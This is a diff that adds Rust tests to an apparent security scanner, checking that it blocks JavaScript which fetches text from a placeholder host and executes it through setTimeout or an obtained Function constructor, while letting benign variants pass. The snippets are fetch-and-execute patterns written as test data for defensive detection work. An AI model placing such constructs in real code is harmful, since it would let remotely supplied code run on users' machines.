@@ -178,3 +178,23 @@ fn in_a_bundle_what_stands_together_counts() {
     assert_eq!(screened(&[("dist/bundle.js", near.as_bytes())]).verdict, Verdict::Block);
     assert_eq!(screened(&[("dist/bundle.js", far.as_bytes())]).verdict, Verdict::Review);
 }
+
+#[test]
+fn a_timer_runs_text_that_is_known_whatever_else_it_may_get() {
+    let of = |code: &str| {
+        let code =
+            format!("fetch('https://a.invalid/x').then(r => r.text()).then(d => {{ {code} }});\n");
+        screened(&[("main.js", code.as_bytes())]).verdict
+    };
+    assert_eq!(of("setTimeout(d, 0)"), Verdict::Block);
+    assert_eq!(of("let h = () => 1; h = d; setTimeout(h, 0)"), Verdict::Block);
+    assert_eq!(of("setTimeout(() => console.log(d), 0)"), Verdict::NoFindings);
+    let wrapped = of("const later = (f) => setTimeout(f, 0); later(() => console.log(d))");
+    assert_eq!(wrapped, Verdict::NoFindings);
+}
+
+#[test]
+fn a_constructor_that_is_handed_to_who_calls_it_runs() {
+    let code = "fetch('https://a.invalid/x').then(r => r.text()).then((() => {}).constructor).then(f => f());\n";
+    assert_eq!(screened(&[("main.js", code.as_bytes())]).verdict, Verdict::Block);
+}
